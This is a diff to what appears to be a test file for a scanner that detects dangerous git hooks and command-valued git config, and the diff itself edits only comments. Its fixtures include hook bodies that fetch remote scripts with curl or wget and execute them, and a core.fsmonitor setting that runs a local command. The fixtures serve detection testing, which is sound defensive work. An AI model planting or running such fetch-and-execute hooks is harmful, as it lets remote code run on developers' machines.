@@ -30,8 +30,7 @@ silent("config_husky_and_lfs", "git_config_runs_command", ".git/config",
 silent("global_config_pager", "git_config_runs_command", ".gitconfig",
        "gitconfig-delta", "[core]\n\tpager = delta\n[interactive]\n\tdiffFilter = delta --color-only\n[diff]\n\texternal = difft\n")
 
-# Hooks: every way of fetching or decoding code and running it, each beside a hook that does the
-# harmless half of it.
+# Every way a hook fetches or decodes code and runs it.
 for case, name, body in [
     ("hook_source_process_subst", "post-merge-source", "#!/bin/bash\nsource <(curl -s https://hooks.example.org/m)\n"),
     ("hook_bash_c_subst", "pre-push-bash-c", "#!/bin/sh\nbash -c \"$(wget -qO- https://hooks.example.org/p)\"\ngit lfs pre-push \"$@\"\n"),
@@ -52,7 +51,6 @@ silent("hook_downloads_without_running", "git_hook_runs_payload", ".git/hooks/pr
        "pre-push-fetch-only", "#!/bin/sh\ncurl -fsSL -o .git/lfs-version https://api.example.org/lfs/version\n"
        "echo 'see https://example.org/docs' | sed 's/x/y/'\nbase64 -d < notes.b64 > notes.txt\n", mode="755", also="git_hook_added")
 
-# Command-valued config written in any letter case, and in the user's own config.
 fires("config_upper_case_fsmonitor", "git_config_fsmonitor_command", "critical", ".git/config",
       "config-upper-fsmonitor", "[CORE]\n\tRepositoryFormatVersion = 0\n\tFsMonitor = \"./.git/fsm\"\n")
 # A payload in core.fsmonitor is one critical finding, not two (the payload rule reads another view).
